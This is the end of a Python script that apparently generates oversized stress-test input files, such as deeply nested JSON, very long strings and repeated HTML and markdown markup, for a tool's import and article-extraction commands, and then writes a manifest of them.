    large("length-json-keys.jsonl", '{"question":"q","publisher":"A","estimate":5', ',"k":1', 100_000, "}\n")
    large("length-json-line.jsonl", '{"question":"', "q", 17_000_000, '"}\n')
    large("length-json-escapes.jsonl", '{"question":"q","estimate":5,"publisher":"', "\\u0041", 150_000, '"}\n')
    large("length-stix-depth.json", "", "[", 2_000_000, "", "import --format stix")
    large("length-stix-strings.json", '{"type":"bundle","objects":["', "x", 20_000_000, '"]}', "import --format stix")
    large("length-article-word.txt", "", "a", 2_000_000, "", "extract")
    large("length-article-digits.txt", "", "1", 1_000_000, "", "extract")
    large("length-article-brackets.txt", "", "(", 500_000, "", "extract")
    large("length-article-quotes.txt", "", "“12 said ", 30_000, "", "extract")
    large("length-article-citing.txt", "12 people died, ", "citing police, who quoted ", 20_000, "the mayor.", "extract")
    large("length-article-tags.html", "", "<b>", 700_000, "12 people died", "extract")
    large("length-article-attributes.html", "<p ", "a", 2_000_000, ">12 people died", "extract")
    large("length-article-stars.md", "", "*", 500_000, "12 people died", "extract")
    large("length-article-links.md", "", "[a](", 200_000, "12 people died", "extract")


def main():
    shutil.rmtree(INPUTS, ignore_errors=True)
    INPUTS.mkdir()
    for make in [encodings, structure, numbers, dates, chains, scripts, json_lines, imports, articles, others, shapes, lengths]:
        make()
    text = "".join(f"{name}\t{command}\t{spec}\n" for name, command, spec in LINES)
    put(HERE / "inputs.tsv", text)
    print(len(LINES), "inputs")


main()
